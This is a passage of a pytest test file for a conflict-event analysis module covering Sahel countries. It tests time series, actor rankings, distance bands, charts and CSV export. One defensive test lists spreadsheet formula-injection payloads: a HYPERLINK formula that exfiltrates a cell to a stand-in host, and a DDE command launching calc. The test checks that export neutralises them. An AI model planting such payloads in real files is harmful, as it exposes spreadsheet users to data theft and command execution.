"""geo.analysis.measures on small hand-built event sets whose answers are worked out by hand."""

from __future__ import annotations

import json
import math

import numpy as np
import pandas as pd
import pytest
import shapely
from pyproj import Transformer

from geo.analysis import measures as an
from geo.model.events import MODEL_COLUMNS
from geo.spatial.geometry import local_equidistant_crs

CENTER = shapely.Point(0.5, 15.0)  # a made-up tripoint
ALG = {"R-ALG"}


def at_km(north_km: float, east_km: float = 0.0) -> tuple[float, float]:
    """(lat, lon) of the point ``north_km`` north and ``east_km`` east of CENTER in the
    azimuthal equidistant projection used for distances."""
    back = Transformer.from_crs(local_equidistant_crs(CENTER), "EPSG:4326", always_xy=True)
    lon, lat = back.transform(east_km * 1000.0, north_km * 1000.0)
    return lat, lon


def make(rows: list[dict]) -> pd.DataFrame:
    """An event frame in the model's dtypes; unspecified fields get neutral defaults."""
    base = {
        "id": "",
        "date": "2023-01-01",
        "date_end": None,
        "date_precision": "day",
        "category": "insurgency",
        "subtype": "ambush",
        "layer": "insurgency",
        "country_iso3": "MLI",
        "admin1_id": "",
        "admin1_name": "",
        "location": "x",
        "latitude": np.nan,
        "longitude": np.nan,
        "geo_precision": None,
        "actors": "",
        "fatalities_low": None,
        "fatalities_high": None,
        "summary": "",
        "sources": ("u",),
        "dataset": "curated",
        "verified": True,
    }
    full = []
    for i, row in enumerate(rows):
        r = {**base, "id": f"E{i}", **row}
        if "km" in r:
            r["latitude"], r["longitude"] = at_km(r.pop("km"))
            if r["geo_precision"] is None:
                r["geo_precision"] = 1
        r["date_end"] = r["date_end"] or r["date"]
        full.append(r)
    df = pd.DataFrame(full, columns=list(MODEL_COLUMNS))
    df["date"] = pd.to_datetime(df["date"]).astype("datetime64[ns]")
    df["date_end"] = pd.to_datetime(df["date_end"]).astype("datetime64[ns]")
    for col in ("latitude", "longitude"):
        df[col] = df[col].astype("float64")
    for col in ("geo_precision", "fatalities_low", "fatalities_high"):
        df[col] = pd.array(df[col].tolist(), dtype="Int64")
    return df[list(MODEL_COLUMNS)]


# --- monthly series -------------------------------------------------------------------------


def test_monthly_series_by_country_fills_quiet_months_and_sums_fatality_ranges():
    df = make(
        [
            {
                "date": "2023-01-05",
                "country_iso3": "MLI",
                "fatalities_low": 2,
                "fatalities_high": 5,
            },
            {"date": "2023-01-31", "country_iso3": "MLI", "fatalities_low": 3},  # high = low = 3
            {"date": "2023-03-01", "country_iso3": "BFA"},  # unknown: adds 0, counted apart
            # month precision: date = 1st of the month, placed in March
            {
                "date": "2023-03-01",
                "date_end": "2023-03-31",
                "date_precision": "month",
                "country_iso3": "MLI",
                "fatalities_low": 10,
                "fatalities_high": 20,
            },
        ]
    )
    s = an.monthly_series(df, "country_iso3").set_index(["month", "group"])
    assert len(s) == 3 * 2  # Jan, Feb, Mar x BFA, MLI
    jan = s.loc[(pd.Timestamp("2023-01-01"), "MLI")]
    assert (jan["events"], jan["fatalities_low"], jan["fatalities_high"]) == (2, 5, 8)
    feb = s.loc[(pd.Timestamp("2023-02-01"), "MLI")]
    assert (feb["events"], feb["fatalities_low"], feb["fatalities_high"]) == (0, 0, 0)
    mar_bfa = s.loc[(pd.Timestamp("2023-03-01"), "BFA")]
    assert (mar_bfa["events"], mar_bfa["fatalities_high"], mar_bfa["fatalities_unknown"]) == (
        1,
        0,
        1,
    )
    mar_mli = s.loc[(pd.Timestamp("2023-03-01"), "MLI")]
    assert (mar_mli["events"], mar_mli["fatalities_low"], mar_mli["fatalities_high"]) == (1, 10, 20)
    assert s["events"].sum() == len(df)


def test_monthly_series_by_category_with_explicit_span_and_groups():
    df = make([{"date": "2023-02-10", "category": "coup"}])
    s = an.monthly_series(
        df,
        "category",
        start=pd.Timestamp("2023-01-15"),
        end=pd.Timestamp("2023-03-02"),
        groups=["coup", "insurgency"],
    )
    assert list(s["month"].dt.strftime("%Y-%m").unique()) == ["2023-01", "2023-02", "2023-03"]
    assert s["events"].tolist() == [0, 0, 1, 0, 0, 0]
    wide = an.series_table(s, "events")
    assert wide.loc["2023-02", "coup"] == 1 and list(wide.columns) == ["coup", "insurgency"]


def test_monthly_series_of_nothing_is_empty():
    none = make([])
    assert an.monthly_series(none, "category").empty
    assert an.top_actors(none).empty
    assert an.admin1_counts(none).empty
    assert an.distance_bands(none, CENTER).table.empty


# --- actors, admin-1 ---------------------------------------------------------------------------


def test_top_actors_counts_each_actor_with_full_fatalities():
    df = make(
        [
            {"actors": "JNIM; Army X", "fatalities_low": 10, "fatalities_high": 30},
            {"actors": "JNIM", "fatalities_low": 1},
            {"actors": "ISSP (per X; unclaimed); Army X"},
            {"actors": ""},
        ]
    )
    top = an.top_actors(df, n=5).set_index("actor")
    # Tie on events (2 each) is broken by fatalities_high: JNIM 31 > Army X 30.
    assert list(top.index) == ["JNIM", "Army X", "ISSP (per X; unclaimed)"]
    assert top.loc["JNIM"].tolist() == [2, 11, 31, 0]
    assert top.loc["Army X"].tolist() == [2, 10, 30, 1]
    by_events = an.top_actors(df, n=2)
    assert by_events["actor"].tolist() == ["JNIM", "Army X"]
    by_deaths = an.top_actors(df, n=1, by="fatalities_high")
    assert by_deaths["actor"].tolist() == ["JNIM"]


def test_admin1_counts_per_period_inclusive_and_without_unitless_events():
    df = make(
        [
            {"date": "2022-12-31", "admin1_id": "A", "fatalities_low": 1},
            {"date": "2023-01-01", "admin1_id": "A", "fatalities_low": 2, "fatalities_high": 4},
            {"date": "2023-12-31", "admin1_id": "B"},
            {"date": "2023-06-01", "admin1_id": ""},
        ]
    )
    counts = an.admin1_counts(df, pd.Timestamp("2023-01-01"), pd.Timestamp("2023-12-31"))
    assert counts.loc["A"].tolist() == [1, 2, 4, 0]
    assert counts.loc["B"].tolist() == [1, 0, 0, 1]
    assert "" not in counts.index
    assert an.admin1_counts(df).loc["A", "events"] == 2
    assert an.years_of(df) == [2022, 2023]


# --- before / after ------------------------------------------------------------------------------

PIVOT = pd.Timestamp("2023-09-16")


def test_windows_are_calendar_months():
    w = an.windows(PIVOT, 12)
    assert (w.before_start, w.after_end) == (pd.Timestamp("2022-09-16"), pd.Timestamp("2024-09-16"))
    assert w.before_last_day == pd.Timestamp("2023-09-15")
    assert an.windows(pd.Timestamp("2024-03-31"), 1).before_start == pd.Timestamp("2024-02-29")
    with pytest.raises(ValueError):
        an.windows(PIVOT, 0)


def test_window_side_rules():
    df = make(
        [
            {"date": "2023-09-16"},  # 0 on the pivot: after
            {"date": "2023-09-15"},  # 1 day before: before
            {"date": "2022-09-16"},  # 2 first day of before
            {"date": "2022-09-15"},  # 3 too early: outside
            {"date": "2024-09-15"},  # 4 last day of after
            {"date": "2024-09-16"},  # 5 too late: outside
            {
                "date": "2023-09-01",
                "date_end": "2023-09-30",  # 6 month of the pivot
                "date_precision": "month",
            },
            {
                "date": "2023-08-01",
                "date_end": "2023-08-31",  # 7 month before
                "date_precision": "month",
            },
            {
                "date": "2023-09-14",
                "date_end": "2023-09-16",  # 8 range over the pivot
                "date_precision": "range",
            },
            {
                "date": "2023-10-01",
                "date_end": "2023-10-31",  # 9 month after
                "date_precision": "month",
            },
        ]
    )
    side = an.window_side(df, an.windows(PIVOT, 12)).tolist()
    assert side == [
        "after",
        "before",
        "before",
        "",
        "after",
        "",
        "straddling",
        "before",
        "straddling",
        "after",
    ]
    # With the pivot on the 1st, the month-precision event of that month is "after".
    side_first = an.window_side(df.iloc[[6]], an.windows(pd.Timestamp("2023-09-01"), 3))
    assert side_first.tolist() == ["after"]


def test_before_after_per_area_by_hand():
    rows = [
        # MLI, in ALG and 40 km from the tripoint (core at 150 km), before
        {
            "date": "2023-03-01",
            "country_iso3": "MLI",
            "admin1_id": "R-ALG",
            "km": 40,
            "fatalities_low": 10,
            "fatalities_high": 20,
        },
        # MLI, outside ALG, 300 km away, after (on the pivot day)
        {
            "date": "2023-09-16",
            "country_iso3": "MLI",
            "admin1_id": "R-OUT",
            "km": 300,
            "fatalities_low": 5,
        },
        # BFA exactly 150 km away (core is inclusive), ALG, after
        {
            "date": "2024-01-10",
            "country_iso3": "BFA",
            "admin1_id": "R-ALG",
            "km": 150,
            "fatalities_low": 1,
            "fatalities_high": 3,
        },
        # BFA, no coordinates: counts for BFA only, after; unknown fatalities
        {"date": "2024-02-01", "country_iso3": "BFA"},
        # NER, month precision in the pivot month: straddling, in no window
        {
            "date": "2023-09-01",
            "date_end": "2023-09-30",
            "date_precision": "month",
            "country_iso3": "NER",
            "admin1_id": "R-ALG",
            "km": 10,
            "fatalities_low": 7,
        },
        # NER, approx date, region-level place, before
        {
            "date": "2023-06-01",
            "date_precision": "approx",
            "country_iso3": "NER",
            "admin1_id": "R-ALG",
            "km": 149.9,
            "geo_precision": 3,
            "fatalities_low": 2,
        },
        # A coup in Gabon near nothing: in no area
        {"date": "2024-01-01", "country_iso3": "GAB", "category": "coup", "km": 20},
    ]
    ba = an.before_after(make(rows), PIVOT, 12, ALG, CENTER, 150.0)
    t = ba.table
    assert list(t.index) == list(an.AREAS)
    ev = t[["events_before", "events_after"]].astype(int)
    assert ev.loc["MLI"].tolist() == [1, 1]
    assert ev.loc["BFA"].tolist() == [0, 2]
    assert ev.loc["NER"].tolist() == [1, 0]
    assert ev.loc["AES"].tolist() == [2, 3]
    assert ev.loc["ALG"].tolist() == [2, 1]
    assert ev.loc["CORE"].tolist() == [2, 1]  # 40 km and 149.9 km before; 150 km after
    assert t.loc["AES", "fatalities_low_before"] == 12
    assert t.loc["AES", "fatalities_low_after"] == 6
    assert t.loc["AES", "fatalities_high_before"] == 22
    assert t.loc["AES", "fatalities_high_after"] == 8  # 5 + 3 + 0 (unknown)
    assert t.loc["AES", "events_change"] == 1
    assert t.loc["AES", "events_change_pct"] == 50.0
    assert t.loc["BFA", "events_change_pct"] != t.loc["BFA", "events_change_pct"]  # NaN
    assert t.loc["NER", "straddling"] == 1 and ba.straddling == 1
    assert t.loc["CORE", "fatalities_high_change"] == 3 - 22
    before, after = ba.completeness_before, ba.completeness_after
    assert (before.total, before.inexact_date, before.region_level, before.inexact_place) == (
        2,
        1,
        1,
        1,
    )
    assert (after.total, after.no_coordinates, after.inexact_place, after.unknown_fatalities) == (
        3,
        1,
        1,
        1,
    )
    long = an.before_after_long(t)
    assert len(long) == len(an.AREAS) * 2 * 3


# --- distance bands ------------------------------------------------------------------------------


def test_distance_is_measured_in_the_projection_and_rounded_to_the_metre():
    df = make([{"km": 50}, {"km": 0}, {}, {"km": 50}, {"km": 120}])
    km = an.distance_km(df, CENTER)
    assert km.iloc[0] == 50.0 and km.iloc[1] == 0.0 and math.isnan(km.iloc[2])
    assert km.iloc[3] == 50.0 and km.iloc[4] == 120.0  # places projected once, mapped back


def test_band_edges_belong_to_the_upper_band():
    km = pd.Series([0.0, 49.999, 50.0, 99.999, 100.0, 200.0, 399.999, 400.0, 5000.0, np.nan])
    assert an.distance_band(km).astype(object).tolist()[:-1] == [
        "0-50",
        "0-50",
        "50-100",
        "50-100",
        "100-200",
        "200-400",
        "200-400",
        "400+",
        "400+",
    ]
    assert pd.isna(an.distance_band(km).iloc[-1])


def test_distance_bands_per_year_shares_by_hand():
    df = make(
        [
            # 2023: four located events, one unlocated
            {"date": "2023-02-01", "km": 50, "fatalities_low": 10, "fatalities_high": 30},  # edge
            {"date": "2023-03-01", "km": 10, "fatalities_low": 10},
            {"date": "2023-04-01", "km": 450},
            {"date": "2023-05-01", "km": 100, "fatalities_low": 0},
            {"date": "2023-06-01"},  # no coordinates
            # 2024: one month-precision event (year of its first day), unknown fatalities
            {"date": "2024-12-01", "date_end": "2024-12-31", "date_precision": "month", "km": 399},
        ]
    )
    res = an.distance_bands(df, CENTER)
    t = res.table.set_index(["year", "band"])
    assert len(t) == 2 * 5
    y23 = t.loc[2023]
    assert y23["events"].tolist() == [1, 1, 1, 0, 1]
    assert y23["share_events"].tolist() == [0.25, 0.25, 0.25, 0.0, 0.25]
    assert y23["fatalities_low"].tolist() == [10, 10, 0, 0, 0]
    assert y23["share_fatalities_low"].tolist() == [0.5, 0.5, 0.0, 0.0, 0.0]
    # high: 10 (low only) at 10 km, 30 at 50 km -> 10/40, 30/40
    assert y23["share_fatalities_high"].tolist() == [0.25, 0.75, 0.0, 0.0, 0.0]
    y24 = t.loc[2024]
    assert y24["events"].tolist() == [0, 0, 0, 1, 0]
    assert y24["share_fatalities_low"].isna().all()  # no known deaths that year
    assert res.unlocated.to_dict() == {2023: 1, 2024: 0}
    assert res.summary.loc[2023, "located_events"] == 4
    assert res.summary.loc[2023, "share_within_100km"] == 0.5  # 10 and 50 km; 100 is not < 100
    assert res.summary.loc[2023, "median_km"] == 75.0
    assert an.concentration_trend(res.summary, min_events=1) == "spreading"  # 75 -> 399
    assert an.concentration_trend(res.summary, min_events=2) == "insufficient"


def test_precomputed_distances_of_a_superset_give_the_same_results():
    everything = make(
        [
            {
                "date": "2023-02-01",
                "km": 50,
                "country_iso3": "MLI",
                "admin1_id": "R-ALG",
                "fatalities_low": 3,
            },
            {"date": "2023-11-01", "km": 160, "country_iso3": "NER"},
            {"date": "2024-01-01", "km": 140, "country_iso3": "BFA"},
            {"date": "2024-03-01", "country_iso3": "BFA"},
            {"date": "2024-04-01", "km": 10, "country_iso3": "GAB", "category": "coup"},
        ]
    )
    km = an.distance_km(everything, CENTER)  # once, for all events
    subset = everything.iloc[[0, 2, 3]]  # what a filter keeps (same index labels)
    pd.testing.assert_frame_equal(
        an.distance_bands(subset, CENTER, km=km).table, an.distance_bands(subset, CENTER).table
    )
    pd.testing.assert_frame_equal(
        an.before_after(subset, PIVOT, 12, ALG, CENTER, 150.0, km=km).table,
        an.before_after(subset, PIVOT, 12, ALG, CENTER, 150.0).table,
    )


def test_concentration_trend_directions():
    summary = pd.DataFrame({"located_events": [9, 9], "median_km": [200.0, 100.0]})
    assert an.concentration_trend(summary) == "concentrating"
    summary["median_km"] = [200.0, 210.0]
    assert an.concentration_trend(summary) == "stable"


# --- completeness, milestones, CSV ----------------------------------------------------------------


def test_completeness_counts():
    df = make(
        [
            {"date_precision": "month", "date": "2023-01-01", "date_end": "2023-01-31"},
            {"date_precision": "approx", "km": 5, "geo_precision": 3, "fatalities_low": 1},
            {"date_precision": "day", "km": 5, "geo_precision": 2, "fatalities_low": 0},
        ]
    )
    c = an.completeness(df)
    assert (
        c.total,
        c.inexact_date,
        c.month_only,
        c.no_coordinates,
        c.region_level,
        c.inexact_place,
        c.unknown_fatalities,
    ) == (3, 2, 1, 1, 1, 2, 1)


def test_milestone_rules_from_the_timeline():
    from geo.io.facts import load_timeline

    rules = an.milestone_rules(load_timeline())
    assert set(rules["id"]) == set(an.MILESTONE_IDS)
    charter = rules.set_index("id").loc["liptako-gourma-charter"]
    assert charter["date"] == pd.Timestamp("2023-09-16") and charter["kind"] == "charter"
    assert rules["date"].is_monotonic_increasing
    assert rules["label_fr"].str.len().gt(0).all()


def test_csv_starts_with_title_and_attribution_lines():
    table = pd.DataFrame({"a": [1], "b": ["x,y"]})
    plain = an.csv_bytes(table, [], title="Events per month").decode("utf-8-sig")
    assert plain.splitlines() == ["# Events per month", "a,b", '1,"x,y"']
    imported = an.csv_bytes(
        table, ["ACLED, accessed 2026-11-01", "Filters applied: none."], title="T"
    ).decode("utf-8-sig")
    assert imported.splitlines()[:3] == [
        "# T",
        "# ACLED, accessed 2026-11-01",
        "# Filters applied: none.",
    ]


# --- victims are not actors ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, victim",
    [
        ("Civilians (Mali)", True),  # ACLED's civilian actor (actor type 7)
        ("Civilians (International)", True),
        ("Civilians", True),  # UCDP one-sided violence, side B
        ("civilians", True),
        ("Fulani civilians", True),
        ("Daoussahak Tuareg civilians", True),
        ("Muslim worshippers", True),
        ("passengers of the COMANAV boat 'Tombouctou'", True),
        ("villageois de Solhan", True),
        ("civilians and soldiers (accused)", False),  # head noun: soldiers
        ("Civilian JTF", False),
        ("JNIM", False),
        ("Malian Armed Forces (FAMa)", False),
        ("Government of Mali", False),
        ("", False),
    ],
)
def test_victims_are_named_by_their_head_noun(name, victim):
    assert an.is_victim(name) is victim


def test_victims_are_ranked_apart_never_among_actors():
    df = make(
        [
            {"actors": "JNIM; Civilians (Mali)", "fatalities_low": 40},
            {"actors": "JNIM; Fulani civilians", "fatalities_low": 12},
            {"actors": "Army X; civilians", "fatalities_low": 5},
            {"actors": "Civilians (Burkina Faso); Civilians (Mali)"},
        ]
    )
    actors = an.top_actors(df, n=10)
    assert actors["actor"].tolist() == ["JNIM", "Army X"]
    assert actors.set_index("actor").loc["JNIM", "fatalities_high"] == 52
    victims = an.top_actors(df, n=10, victims=True).set_index("actor")
    assert set(victims.index) == {
        "Civilians (Mali)",
        "Fulani civilians",
        "civilians",
        "Civilians (Burkina Faso)",
    }
    assert victims.loc["Civilians (Mali)", "events"] == 2


# --- periods of the trend charts ----------------------------------------------------------------


def test_fourteen_years_are_shown_per_quarter_and_longer_spans_per_year():
    assert an.choose_period(pd.Timestamp("2023-01-01"), pd.Timestamp("2025-12-01")) == "month"
    assert an.choose_period(pd.Timestamp("2012-01-01"), pd.Timestamp("2026-04-01")) == "quarter"
    assert an.choose_period(pd.Timestamp("1997-01-01"), pd.Timestamp("2026-04-01")) == "year"
    # Exactly MAX_BARS months is still monthly; one more is not.
    assert an.choose_period(pd.Timestamp("2020-01-01"), pd.Timestamp("2024-12-01")) == "month"
    assert an.choose_period(pd.Timestamp("2020-01-01"), pd.Timestamp("2025-01-01")) == "quarter"


def test_period_series_sums_months_into_quarters_and_years():
    df = make(
        [
            {
                "date": "2023-01-10",
                "country_iso3": "MLI",
                "fatalities_low": 2,
                "fatalities_high": 5,
            },
            {"date": "2023-03-31", "country_iso3": "MLI", "fatalities_low": 1},
            {"date": "2023-04-01", "country_iso3": "NER"},
        ]
    )
    monthly = an.monthly_series(df, "country_iso3")
    quarters = an.period_series(monthly, "quarter").set_index(["month", "group"])
    assert quarters.loc[(pd.Timestamp("2023-01-01"), "MLI")].tolist() == [2, 3, 6, 0]
    assert quarters.loc[(pd.Timestamp("2023-04-01"), "NER")].tolist() == [1, 0, 0, 1]
    assert quarters.loc[(pd.Timestamp("2023-04-01"), "MLI")].tolist() == [0, 0, 0, 0]
    years = an.period_series(monthly, "year")
    assert years["events"].sum() == 3 and set(years["month"]) == {pd.Timestamp("2023-01-01")}
    assert an.period_label(pd.Timestamp("2023-04-01"), "quarter") == "2023-Q2"
    table = an.series_table(an.period_series(monthly, "quarter"), "events", "quarter")
    assert list(table.index) == ["2023-Q1", "2023-Q2"]


def test_milestone_rules_carry_the_country_of_a_coup():
    from geo.io.facts import load_timeline

    rules = an.milestone_rules(load_timeline()).set_index("id")
    assert rules.loc["niger-coup-2023", "country_iso3"] == "NER"
    assert rules.loc["mali-coup-2020", "country_iso3"] == "MLI"


# --- downloads: no formula reaches a spreadsheet ----------------------------------------------

HOSTILE_ACTORS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


def test_analysis_csv_neutralises_formulas_in_every_cell_and_the_index():
    import csv
    import io

    df = make([{"actors": "; ".join(HOSTILE_ACTORS), "fatalities_low": 3}])
    top = an.top_actors(df, n=10)
    assert set(top["actor"]) == set(HOSTILE_ACTORS)
    text = an.csv_bytes(top, ["Dataset '=cmd'."], title="@title").decode("utf-8-sig")
    rows = list(
        csv.reader(
            io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("#")))
        )
    )
    assert rows[0] == ["actor", "events", "fatalities_low", "fatalities_high", "fatalities_unknown"]
    for row in rows[1:]:
        assert row[0].startswith("'") and row[0][1] in "=@+-"
        assert row[1:] == ["1", "3", "3", "0"]  # numbers stay numbers
    assert text.startswith("# @title\n# Dataset '=cmd'.\n")  # comment lines start with #
    # A table with an index (the before/after table): the index is a column, neutralised.
    indexed = pd.DataFrame({"events_change": [-4]}, index=pd.Index(["=1+1"], name="area"))
    lines = an.csv_bytes(indexed, index=True).decode("utf-8-sig").splitlines()
    assert lines == ["area,events_change", "'=1+1,-4"]


# --- the charts' specs (geo.ui.analysis): colours, labels, formats ------------------------------


def _trend_series(lang: str) -> pd.DataFrame:
    from geo.model.countries import country_name

    df = make(
        [
            {"date": "2012-01-05", "country_iso3": "NER"},
            {"date": "2026-04-01", "country_iso3": "MLI"},
            {"date": "2020-06-01", "country_iso3": "other"},
        ]
    )
    series = an.period_series(an.monthly_series(df, "country_iso3"), "quarter")
    labels = {"other": "Hors AES" if lang == "fr" else "Outside the AES"}
    return series.assign(
        group_label=series["group"].map(lambda c: labels.get(c) or country_name(c, lang))
    )


def _walk(spec):
    """Every dict in a Vega-Lite spec, depth first."""
    if isinstance(spec, dict):
        yield spec
        for value in spec.values():
            yield from _walk(value)
    elif isinstance(spec, list):
        for value in spec:
            yield from _walk(value)


def _colour_by_label(spec: dict) -> dict[str, str]:
    for node in _walk(spec):
        color = node.get("color") if isinstance(node.get("color"), dict) else None
        if color and color.get("field") == "group_label":
            scale = color["scale"]
            return dict(zip(scale["domain"], scale["range"], strict=True))
    raise AssertionError("no group colour scale")


def test_a_country_has_one_colour_in_every_chart_and_language():
    from geo.io.facts import load_timeline
    from geo.render import palette
    from geo.ui import analysis as ui_an

    rules = an.milestone_rules(load_timeline())
    by_lang = {}
    for lang in ("en", "fr"):
        series = _trend_series(lang)
        for chart in (ui_an.events_chart, ui_an.fatalities_chart):
            spec = chart(series, rules, lang, "Country", "country_iso3", "quarter").to_dict()
            colours = _colour_by_label(spec)
            by_lang.setdefault(lang, []).append(colours)
    for lang, (events, fatalities) in by_lang.items():
        assert events == fatalities
        other = "Hors AES" if lang == "fr" else "Outside the AES"
        assert events["Mali"] == palette.country_colour("MLI")
        assert events["Niger"] == palette.country_colour("NER")
        assert events[other] == palette.OTHER_COUNTRY_COLOUR
    # Same colours, whatever the labels read.
    assert sorted(by_lang["en"][0].values()) == sorted(by_lang["fr"][0].values())


def test_trend_bars_follow_the_period_and_rules_carry_labels():
    from geo.io.facts import load_timeline
    from geo.ui import analysis as ui_an

    rules = an.milestone_rules(load_timeline())
    spec = ui_an.events_chart(
        _trend_series("fr"), rules, "fr", "Pays", "country_iso3", "quarter"
    ).to_dict()
    assert any(n.get("timeUnit") == "yearquarter" for n in _walk(spec))
    texts = [
        n
        for n in _walk(spec)
        if n.get("type") == "text"
        or n.get("mark") == "text"
        or (isinstance(n.get("mark"), dict) and n["mark"].get("type") == "text")
    ]
    assert texts, "the milestone lines have no text labels"
    datasets = spec["datasets"].values()
    labels = {row["label"] for rows in datasets for row in rows if "label" in row}
    assert {
        "Coup d'État, Niger",
        "Charte du Liptako-Gourma",
        "Sortie de la CEDEAO effective",
    } <= labels


def test_rule_labels_never_overlap():
    from geo.ui import analysis as ui_an

    dates = pd.Series(
        pd.to_datetime(
            [
                "2020-08-18",
                "2021-05-24",
                "2023-07-26",
                "2023-09-16",
                "2023-09-20",
                "2024-01-28",
                "2025-01-29",
            ]
        )
    )
    start, end = pd.Timestamp("2012-01-01"), pd.Timestamp("2026-06-30")
    width = 700
    placed = ui_an.rule_lanes(dates, start, end, width)
    spans = []
    for when, row in zip(dates, placed.itertuples(), strict=True):
        x = (when - start).days / (end - start).days * width
        lo, hi = (
            (x - ui_an.RULE_LABEL_PX, x) if row.side == "left" else (x, x + ui_an.RULE_LABEL_PX)
        )
        spans.append((row.lane, lo, hi))
    for i, (lane, lo, hi) in enumerate(spans):
        for lane2, lo2, hi2 in spans[i + 1 :]:
            assert lane != lane2 or hi <= lo2 or hi2 <= lo
    assert placed["lane"].max() >= 1  # three rules within days need a second lane


def test_charts_use_the_readers_number_format_and_svg():
    from geo.ui import analysis as ui_an

    top = pd.DataFrame(
        {
            "actor": ["JNIM"],
            "events": [1200],
            "fatalities_low": [3],
            "fatalities_high": [4],
            "fatalities_unknown": [0],
        }
    )
    fr = ui_an.actors_chart(top, "events", "fr").to_dict()
    number = fr["config"]["locale"]["number"]
    assert (number["thousands"], number["decimal"]) == ("\u202f", ",")
    assert fr["config"]["locale"]["time"]["shortMonths"][8] == "sept."
    assert fr["config"]["locale"]["time"]["days"][0] == "dimanche"
    en = ui_an.actors_chart(top, "events", "en").to_dict()["config"]["locale"]["number"]
    assert (en["thousands"], en["decimal"]) == (",", ".")
    assert fr["usermeta"]["embedOptions"]["renderer"] == "svg"
    # Every actor bar keeps its label.
    assert fr["encoding"]["y"]["axis"]["labelOverlap"] is False


def test_bands_and_choropleth_take_the_palette():
    from geo.render import palette
    from geo.ui import analysis as ui_an

    table = pd.DataFrame(
        {
            "year": [2023] * 5,
            "band": list(an.BAND_LABELS),
            "events": [1] * 5,
            "fatalities_low": [0] * 5,
            "fatalities_high": [0] * 5,
            "share_events": [0.2] * 5,
            "share_fatalities_low": [np.nan] * 5,
            "share_fatalities_high": [np.nan] * 5,
        }
    )
    spec = ui_an.bands_chart(table, "share_events", "fr").to_dict()
    scale = spec["encoding"]["color"]["scale"]
    assert scale["range"] == list(palette.BAND_COLOURS)
    assert scale["domain"][0] == "0–50 km" and scale["domain"][-1] == "400 km et plus"
    breaks = ui_an.class_breaks(50)
    assert ui_an.color_for(0, breaks) == palette.ZERO_COLOUR
    assert [ui_an.color_for(b, breaks) for b in breaks] == list(palette.SEQUENTIAL)
    legend = ui_an.legend_html(ui_an.class_breaks(5000), "fr")
    assert "1\u202f001–2\u202f000" in legend


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_the_choropleth_shows_rates_and_no_figure_apart_from_zero(lang):
    import folium

    from geo import ui
    from geo.analysis import rates
    from geo.i18n.catalogue import format_number, translate
    from geo.io.population import load_population
    from geo.render import palette
    from geo.ui import analysis as ui_an

    admin1 = ui.boundary_layers()["admin1"]
    counts = pd.DataFrame(
        {"events": [20, 5], "fatalities_low": [0, 0], "fatalities_high": [40, 9]},
        index=pd.Index(["NE-6", "BF-SAHEL"], name="admin1_id"),
    )
    units = load_population().copy()
    units.loc["BF-SAHEL", ["population", "census_year"]] = pd.NA  # a unit without a figure
    table = rates.unit_rates(counts, units)
    fmap, classes = ui_an.choropleth(admin1, counts, "events", lang, table=table, basis="people")
    layer = next(c for c in fmap._children.values() if isinstance(c, folium.GeoJson))
    props = {f["properties"]["id"]: f["properties"] for f in layer.data["features"]}
    assert classes.rate and classes.no_figure
    assert props["BF-SAHEL"]["fill"] == palette.NO_FIGURE_COLOUR  # no population figure
    assert props["BF-SAHEL"]["dash"] == ui_an.NO_FIGURE_DASH
    assert translate("rt_no_population", lang) in props["BF-SAHEL"]["value"]
    assert props["ML-1"]["fill"] == palette.ZERO_COLOUR and "dash" not in props["ML-1"]
    # the style Leaflet is given: grey and dashed together, for that unit only
    page = fmap.get_root().render()
    styled = f'"dashArray": "{ui_an.NO_FIGURE_DASH}", "fillColor": "{palette.NO_FIGURE_COLOUR}"'
    assert page.count(styled) == 1 and page.count("dashArray") == 1
    # Tillabéri: 20 / 2,722,482 x 100,000 = 0.73 per 100,000, the only rate: one class,
    # the darkest, up to 0.74 (2 figures, rounded up)
    assert classes.breaks == [0.74]
    assert props["NE-6"]["fill"] == palette.SEQUENTIAL[-1]
    assert format_number(0.73, lang, 2) in props["NE-6"]["value"]
    legend = ui_an.legend_items(classes, lang, "people")
    assert legend[-1] == (palette.NO_FIGURE_COLOUR, translate("an_legend_no_population", lang))
    assert legend[1] == (palette.SEQUENTIAL[-1], f"0–{format_number(0.74, lang, 2)}")
    _, area = ui_an.choropleth(admin1, counts, "events", lang, table=table, basis="area")
    assert not area.no_figure  # every unit has an area
    _, count = ui_an.choropleth(admin1, counts, "events", lang)
    assert count == ui_an.MapClasses(ui_an.class_breaks(20))


def test_tables_show_numbers_in_the_readers_format():
    from geo.ui import analysis as ui_an

    frame = pd.DataFrame({"Événements": [1253], "Part": [0.456], "Nom": ["=x"]})
    html = ui_an.number_table(frame, "fr", percent=["Part"]).to_html()
    assert "1\u202f253" in html and "45,6\u202f%" not in html and "46\u202f%" in html


# --- precomputed arrays give the same numbers as the frame functions -------------------------


@pytest.fixture(scope="module")
def mixed_events() -> pd.DataFrame:
    """Curated events (coups outside the AES, victims, month precision, unknown tolls, no
    coordinates) and synthetic ones, as the app concatenates them."""
    from geo.io.events import load_events
    from scripts.synthetic_events import make_events

    curated = load_events().events
    synthetic = make_events(3000, seed=3)
    synthetic.loc[synthetic.index[:40], ["latitude", "longitude"]] = np.nan
    synthetic.loc[synthetic.index[40:80], "fatalities_low"] = pd.NA
    synthetic.loc[synthetic.index[40:80], "fatalities_high"] = pd.NA
    return pd.concat([curated, synthetic], ignore_index=True)


def _random_filters(events: pd.DataFrame, count: int) -> list:
    from datetime import date as day

    from geo.io.events import actors_long
    from geo.model.events import LAYERS
    from geo.model.filters import EventFilter

    rng = np.random.default_rng(11)
    countries = sorted(set(events["country_iso3"]))
    subtypes = sorted(set(events["subtype"]))
    names = sorted(set(actors_long(events)))
    out = [
        EventFilter(
            date_from=day(2012, 1, 1),
            date_to=day(2026, 1, 1),
            countries=("MLI", "BFA", "NER"),
            layers=LAYERS,
            include_non_aes_coups=True,
        ),
        EventFilter(),
    ]
    for _ in range(count):
        y1 = int(rng.integers(2010, 2025))
        out.append(
            EventFilter(
                date_from=day(y1, int(rng.integers(1, 13)), 1) if rng.random() < 0.8 else None,
                date_to=day(y1 + int(rng.integers(0, 5)), 12, 31) if rng.random() < 0.8 else None,
                countries=tuple(rng.choice(countries, int(rng.integers(0, 4)), replace=False)),
                layers=tuple(rng.choice(LAYERS, int(rng.integers(1, 4)), replace=False)),
                subtypes=tuple(rng.choice(subtypes, int(rng.integers(0, 3)), replace=False))
                if rng.random() < 0.3
                else (),
                actors=tuple(rng.choice(names, int(rng.integers(1, 3)), replace=False))
                if rng.random() < 0.3
